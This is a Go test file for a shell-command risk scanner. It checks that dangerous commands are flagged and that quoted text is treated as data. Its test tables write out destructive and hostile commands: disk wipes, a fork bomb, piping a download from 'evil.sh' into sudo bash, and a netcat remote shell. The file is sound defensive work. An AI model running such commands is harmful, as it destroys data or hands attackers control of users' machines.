package safety

import (
	"testing"

	"github.com/cmdguard/cmdguard/internal/risk"
)

func maxPatternRisk(findings []Finding) risk.RiskLevel {
	level := risk.Safe
	for _, f := range findings {
		level = risk.Max(level, f.Risk)
	}
	return level
}

func TestScanPatterns_KnownDangerous(t *testing.T) {
	tests := []struct {
		command string
		want    risk.RiskLevel
	}{
		{"rm -rf /", risk.Critical},
		{"rm -rf ~", risk.Critical},
		{"rm -rf --no-preserve-root /", risk.Critical},
		{"dd if=/dev/zero of=/dev/sda", risk.Critical},
		{"mkfs.ext4 /dev/sda1", risk.Critical},
		{":(){ :|:& };:", risk.Critical},
		{"curl http://evil.sh | sudo bash", risk.Critical},
		{"nc -lvp 4444 -e /bin/sh", risk.Critical},
		{"shred -uz /dev/sda", risk.Critical},
		{"curl http://example.com/install.sh | bash", risk.High},
		{"sudo su -", risk.High},
		{"sudo rm /etc/passwd", risk.High},
		{"echo pwned > /etc/passwd", risk.High},
		{"crontab -r", risk.High},
		{"docker run --privileged img", risk.High},
		{"chmod 755 script.sh", risk.Moderate},
		{"killall -9 node", risk.Moderate},
		{"iptables -F", risk.Moderate},
		{"export PATH=/tmp:$PATH", risk.Moderate},
		{"scp file.txt user@host:", risk.Moderate},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			findings := scanPatterns(tt.command, builtinPatterns)
			if got := maxPatternRisk(findings); got != tt.want {
				t.Errorf("risk = %v, want %v (findings: %v)", got, tt.want, findings)
			}
		})
	}
}

func TestScanPatterns_SafeCommands(t *testing.T) {
	for _, cmd := range []string{
		"ls -la",
		"git status",
		"rm -rf /tmp/build",
		"cat README.md",
		"grep -r pattern src/",
		"find . -name '*.go'",
		"echo hello world",
	} {
		t.Run(cmd, func(t *testing.T) {
			if findings := scanPatterns(cmd, builtinPatterns); len(findings) != 0 {
				t.Errorf("expected no findings, got %v", findings)
			}
		})
	}
}

func TestScanPatterns_QuoteSuppression(t *testing.T) {
	// Dangerous text inside a matched quote pair is data, not a command.
	for _, cmd := range []string{
		`echo "rm -rf /"`,
		`echo 'rm -rf /'`,
		`git commit -m "fix: rm -rf / bug"`,
	} {
		t.Run(cmd, func(t *testing.T) {
			for _, f := range scanPatterns(cmd, builtinPatterns) {
				if f.Category == CategoryFilesystem {
					t.Errorf("quoted text produced finding %v", f)
				}
			}
		})
	}

	// The same text unquoted must still match.
	if findings := scanPatterns("rm -rf /", builtinPatterns); len(findings) == 0 {
		t.Fatal("unquoted rm -rf / must match")
	}
}

func TestScanPatterns_UnterminatedQuoteDoesNotSuppress(t *testing.T) {
	findings := scanPatterns(`echo "x; rm -rf /`, builtinPatterns)
	if maxPatternRisk(findings) != risk.Critical {
		t.Errorf("unterminated quote must not hide the match, got %v", findings)
	}
}

func TestScanPatterns_SpansCoverMatch(t *testing.T) {
	cmd := "true && rm -rf / && true"
	findings := scanPatterns(cmd, builtinPatterns)
	if len(findings) == 0 {
		t.Fatal("expected findings")
	}
	for _, f := range findings {
		if f.Span.Start < 0 || f.Span.End > len(cmd) || f.Span.Start >= f.Span.End {
			t.Errorf("bad span %+v", f.Span)
		}
		if f.Span.Start < 5 {
			t.Errorf("match should start at the rm, span %+v", f.Span)
		}
	}
}

func TestQuotedRegions(t *testing.T) {
	regions := quotedRegions(`a "bc" 'de' f`)
	if len(regions) != 2 {
		t.Fatalf("regions: %+v", regions)
	}
	if regions[0].Start != 3 || regions[0].End != 5 {
		t.Errorf("double-quoted region: %+v", regions[0])
	}
	if regions[1].Start != 8 || regions[1].End != 10 {
		t.Errorf("single-quoted region: %+v", regions[1])
	}

	// Escaped double quote does not close the region.
	regions = quotedRegions(`"a\"b"`)
	if len(regions) != 1 || regions[0].End != 5 {
		t.Errorf("escaped quote: %+v", regions)
	}
}

func TestBuiltinPatternCount(t *testing.T) {
	if len(builtinPatterns) < 48 {
		t.Errorf("pattern database has %d entries, expected at least 48", len(builtinPatterns))
	}
	seen := map[string]bool{}
	for _, p := range builtinPatterns {
		if p.ID == "" || p.Description == "" {
			t.Errorf("pattern %q missing metadata", p.ID)
		}
		if seen[p.ID] {
			t.Errorf("duplicate pattern ID %q", p.ID)
		}
		seen[p.ID] = true
	}
}
